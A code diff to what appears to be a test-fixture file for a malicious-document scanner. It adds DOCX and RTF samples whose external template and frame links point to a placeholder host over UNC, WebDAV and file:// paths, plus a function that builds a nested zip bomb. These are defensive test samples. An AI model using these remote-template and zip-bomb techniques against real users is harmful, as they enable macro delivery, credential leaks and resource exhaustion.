@@ -100,6 +100,25 @@ export const activeFiles: Readonly<Record<string, Buffer>> = {
       `TargetMode="External" Target="https://evil.example/x.dotm" Type="${OFFICE}/attachedTemplate"`,
     ),
   }),
+  "a template on a share": docxFile({
+    "word/_rels/settings.xml.rels": relations(
+      `TargetMode="External" Target="\\\\evil.example@80\\DavWWWRoot\\x.dotm" Type="${OFFICE}/attachedTemplate"`,
+    ),
+  }),
+  "a template on a share, as an address": docxFile({
+    "word/_rels/settings.xml.rels": relations(
+      `TargetMode="External" Target="file://evil.example/x.dotm" Type="${OFFICE}/attachedTemplate"`,
+    ),
+  }),
+  "a frame fetched from a share": docxFile({
+    "word/_rels/webSettings.xml.rels": relations(
+      `TargetMode="External" Target="//evil.example/x.docx" Type="${OFFICE}/frame"`,
+    ),
+  }),
+  "a template on a share in RTF": Buffer.from(
+    "{\\rtf1\\ansi {\\*\\template \\\\\\\\evil.example\\\\x.dotm}}\n",
+    "latin1",
+  ),
   "macros in a table behind a chart": docxFile({
     "word/embeddings/table.xlsx": zip({ "xl/media/image1.png": COMPOUND_FILE }),
   }),
@@ -179,3 +198,26 @@ export const EICAR = [
   "X5O!P%@AP[4\\PZX54(P^)7CC)7}",
   "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
 ].join("");
+
+/** An archive in the document, listed under many names, all of which stand in the same bytes. */
+export function nestedBomb({ listed, inner }: { listed: number; inner: number }): Buffer {
+  const file = docxFile(archivesOf({ archives: 1, entries: inner }));
+  const list = file.readUInt32LE(file.length - 6);
+  const last = file.lastIndexOf("PK\u0001\u0002", undefined, "latin1");
+  const entry = file.subarray(last, file.length - 22);
+  const end = Buffer.from(file.subarray(file.length - 22));
+  const more = Buffer.concat(Array.from({ length: listed }, () => entry));
+  end.writeUInt16LE(end.readUInt16LE(10) + listed, 8);
+  end.writeUInt16LE(end.readUInt16LE(10) + listed, 10);
+  end.writeUInt32LE(file.length - 22 - list + more.length, 12);
+  return Buffer.concat([file.subarray(0, -22), more, end]);
+}
+
+/** Archives of entries that hold nothing, to be put into a document. */
+export function archivesOf({ archives, entries }: { archives: number; entries: number }): Zippable {
+  const names = Array.from({ length: entries }, (_, index) => [`${index}`, new Uint8Array(0)]);
+  const archive = new Uint8Array(zipSync(Object.fromEntries(names), { level: 0 }));
+  return Object.fromEntries(
+    Array.from({ length: archives }, (_, index) => [`word/embeddings/${index}.xlsx`, archive]),
+  );
+}
